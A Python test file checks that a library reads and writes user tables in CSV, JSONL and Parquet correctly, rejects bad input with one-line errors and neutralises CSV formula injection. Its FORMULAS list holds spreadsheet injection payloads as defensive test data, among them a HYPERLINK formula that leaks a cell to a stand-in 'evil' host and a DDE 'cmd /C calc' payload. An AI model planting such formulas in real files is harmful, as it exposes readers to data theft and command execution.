from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from artifacts.errors import ColumnUnusableError, TableUnreadableError
from artifacts.user_tables import read_user_table, table_kind, write_user_table
from base.errors import ArtifactError, NoSpaceError

ENDINGS = (".csv", ".jsonl", ".ndjson", ".parquet")
SECRET = "How do I marker-text"


def written(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_table_comes_back_as_it_was_written(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"table{ending}"
    frame = pl.DataFrame({"prompt": ["a, b", 'c "d"', "e\nf", "ä"], "kind": ["x", None, "y", ""]})
    write_user_table(path, frame)
    assert read_user_table(path).equals(frame)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1)
)
def test_any_texts_survive_a_csv(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    path = tmp_path_factory.mktemp("tables") / "table.csv"
    frame = pl.DataFrame({"prompt": texts, "n": [str(n) for n in range(len(texts))]})
    write_user_table(path, frame)
    assert read_user_table(path).equals(frame)


def test_a_csv_may_have_a_byte_order_mark_crlf_and_blank_lines(tmp_path: Path) -> None:
    data = b"\xef\xbb\xbfprompt,label\r\na,1\r\n\r\nb,2\r\n\r\n"
    frame = read_user_table(written(tmp_path, "table.csv", data))
    assert frame.rows() == [("a", "1"), ("b", "2")]


def test_json_lines_may_have_a_byte_order_mark_and_blank_lines(tmp_path: Path) -> None:
    data = b'\xef\xbb\xbf{"prompt": "a"}\n\n{"prompt": "b", "label": 1}\n'
    frame = read_user_table(written(tmp_path, "table.jsonl", data))
    assert frame.to_dicts() == [{"prompt": "a", "label": None}, {"prompt": "b", "label": 1}]


def test_an_empty_cell_of_a_csv_is_the_empty_text(tmp_path: Path) -> None:
    frame = read_user_table(written(tmp_path, "table.csv", b"prompt,label\n,1\nb,\n"))
    assert frame.rows() == [("", "1"), ("b", None)]


def test_another_column_can_be_asked_for_and_endings_may_be_capital(tmp_path: Path) -> None:
    path = written(tmp_path, "TABLE.CSV", b"question\na\n")
    assert read_user_table(path, "question").rows() == [("a",)]
    assert table_kind(path) == ".csv"


def test_a_column_of_categories_is_read_as_texts(tmp_path: Path) -> None:
    path = tmp_path / "table.parquet"
    pl.DataFrame({"prompt": ["a", "b"]}, {"prompt": pl.Categorical}).write_parquet(path)
    assert read_user_table(path).schema == {"prompt": pl.String}


def test_a_text_of_one_megabyte_is_read(tmp_path: Path) -> None:
    path = written(tmp_path, "table.csv", b"prompt\n" + b"x" * 1_000_000 + b"\n")
    assert read_user_table(path)["prompt"].str.len_bytes().to_list() == [1_000_000]


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("table.xlsx", b"x", r"must end in one of \.csv, \.jsonl, \.ndjson, \.parquet \(got table"),
        ("table", b"x", "must end in one of"),
        ("table.csv", b"", r"a table must not be empty \(got .*table\.csv\)"),
        ("table.jsonl", b"\n\n", "a table must not be empty"),
        ("table.parquet", b"", "a table must not be empty"),
        ("table.csv", b"prompt,label\n", "must have at least one row"),
        ("table.csv", b"PK\x03\x04\0\0\0", r"a \.csv table must be text, not binary data"),
        ("table.csv", "prompt\na\n".encode("utf-16"), "must be text, not binary data or UTF-16"),
        ("table.csv", b"prompt\na\n\xe9\n", r"a \.csv table must be UTF-8; line 3 is not"),
        ("table.jsonl", b'{"prompt": "\xff"}', r"a \.jsonl table must be UTF-8; line 1 is not"),
        ("table.csv", f'prompt\n"{SECRET}\n'.encode(), r"a \.csv table must be well-formed"),
        ("table.csv", f"prompt\na,{SECRET}\n".encode(), r"a \.csv table must be well-formed"),
        ("table.jsonl", f'{{"prompt": "{SECRET}"'.encode(), "must be well-formed"),
        ("table.jsonl", f'["{SECRET}"]\n'.encode(), "must be well-formed|no column"),
        ("table.parquet", SECRET.encode(), r"a \.parquet table must be well-formed"),
        ("table.csv", b"promt,label\na,1\n", r"column 'prompt' \(got 'promt'\)"),
        (
            "table.csv",
            f"{SECRET}\nb\n".encode(),
            r"'prompt' \(got 1 column, none named by a short word\)",
        ),
        ("table.jsonl", b'{"prompt": "a"}\n{"prompt": null}\n', r"in 1 of 2, first in row 2\)"),
        ("table.jsonl", b'{"prompt": 5}\n', r"column 'prompt' must hold texts \(got Int64\)"),
        ("table.jsonl", b'{"prompt": ["a"]}\n', r"column 'prompt' must hold texts"),
    ],
)
def test_a_table_that_cannot_be_used_is_refused_in_one_line_without_its_texts(
    tmp_path: Path, name: str, data: bytes, rule: str
) -> None:
    path = written(tmp_path, name, data)
    with pytest.raises((TableUnreadableError, ColumnUnusableError), match=rule) as caught:
        read_user_table(path)
    assert caught.value.exit_code == 2
    assert SECRET not in str(caught.value)
    assert "\n" not in str(caught.value)
    assert caught.value.__cause__ is None


def test_a_missing_table_and_a_folder_are_named(tmp_path: Path) -> None:
    with pytest.raises(
        TableUnreadableError, match=r"No such file or directory \(got .*table\.csv\)"
    ):
        read_user_table(tmp_path / "table.csv")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(TableUnreadableError, match="Is a directory"):
        read_user_table(tmp_path / "folder.csv")


def test_nested_values_are_json_in_a_csv(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    votes = [[{"model": "m", "score": 0.5}], None, []]
    write_user_table(path, pl.DataFrame({"prompt": ["a", "b", "c"], "votes": votes}))
    found = pl.read_csv(path)["votes"].to_list()
    assert [cell and json.loads(cell) for cell in found] == votes


FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\n=1",
    "\uff1d1",
    "x;=1+1;y",
    "'=already",
    "plain",
)


def test_no_text_of_a_csv_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    frame = pl.DataFrame({"prompt": FORMULAS, "=named": ["-a"] * 9, "n": [-0.5] * 9})
    write_user_table(path, frame)
    cells = path.read_text("utf-8").replace(";", ",").replace("\n", ",").split(",")
    texts = [cell.strip('"') for cell in cells if cell != "-0.5"]
    assert not [cell for cell in texts if cell[:1] in tuple("=+-@\uff1d")]
    assert read_user_table(path).equals(frame.with_columns(pl.col("n").cast(pl.String)))


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.text(st.sampled_from("'=+-@;,\"\n\ta ")), min_size=1),
    st.sampled_from([["=1"], ["a"], [None], ["'-"]]),
)
def test_what_one_verb_writes_the_next_one_reads(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str], more: list[str | None]
) -> None:
    path = tmp_path_factory.mktemp("tables") / "table.csv"
    frame = pl.DataFrame(
        {"prompt": texts, "more": more * len(texts)}, schema_overrides={"more": pl.String}
    )
    for _ in range(2):
        write_user_table(path, frame)
        frame = read_user_table(path)
    assert frame["prompt"].to_list() == texts
    assert frame["more"].to_list() == more * len(texts)


@pytest.mark.parametrize(
    "data",
    [
        b"prompt\n'+' overloading in C++\n",
        b"prompt\n'=SUM(A1)' does not work\nplain\n",
        b'"prompt"\n"\'+\' overloading"\n"- a bullet"\n',
        b'"prompt","\'=x"\n"a","=1"\n',
        b'"prompt"\n"\'+\' overloading"\n',
        b'"prompt","n"\r\n\'=x,1\r\n',
    ],
)
def test_an_apostrophe_in_somebody_elses_csv_is_part_of_the_text(
    tmp_path: Path, data: bytes
) -> None:
    frame = read_user_table(written(tmp_path, "table.csv", data))
    assert frame.equals(pl.read_csv(data, infer_schema=False))


def test_an_unknown_ending_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(TableUnreadableError, match="must end in one of"):
        write_user_table(tmp_path / "table.txt", pl.DataFrame({"prompt": ["a"]}))
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_full_disk_is_named(tmp_path: Path, ending: str) -> None:
    (tmp_path / f".table{ending}.part").symlink_to("/dev/full")
    with pytest.raises(NoSpaceError, match=f"no space left for table{ending}"):
        write_user_table(tmp_path / f"table{ending}", pl.DataFrame({"prompt": ["a"]}))


def test_every_error_names_rule_value_and_exit_code() -> None:
    error = ArtifactError("a rule", 5)
    assert (error.rule, error.value, error.exit_code, str(error)) == (
        "a rule",
        "5",
        1,
        "a rule (got 5)",
    )
